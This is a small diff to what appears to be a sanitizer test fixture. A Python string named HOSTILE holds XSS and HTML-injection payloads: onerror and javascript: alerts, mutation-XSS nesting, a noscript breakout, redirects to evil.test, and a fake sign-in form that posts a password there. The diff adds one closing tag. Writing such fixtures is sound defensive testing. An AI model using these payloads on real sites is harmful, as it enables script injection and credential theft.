@@ -20,6 +20,7 @@ HOSTILE = """
 <iframe src="https://evil.test"></iframe><form action="https://evil.test"><input name="password">
 <button>Sign in</button></form><svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
 <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext>
+</math>
 <base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">
 <link rel="stylesheet" href="https://evil.test/x.css"><video src="https://evil.test/v"></video>
 <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><!--><img src=y>-->
